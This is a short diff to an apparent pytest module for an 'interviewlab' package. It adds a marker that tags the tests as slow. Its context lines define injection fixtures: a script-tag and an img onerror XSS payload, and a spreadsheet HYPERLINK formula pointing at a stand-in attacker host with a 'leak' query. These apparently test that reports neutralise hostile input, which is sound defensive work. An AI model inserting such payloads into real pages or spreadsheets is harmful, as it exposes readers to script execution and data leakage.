@@ -19,6 +19,8 @@ import pytest
 
 import interviewlab as il
 
+pytestmark = pytest.mark.slow  # every test here runs reports
+
 SCRIPT = '<script>alert("tiny")</script>'
 FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
 HANDLER = "<img src=x onerror=alert(1)>"
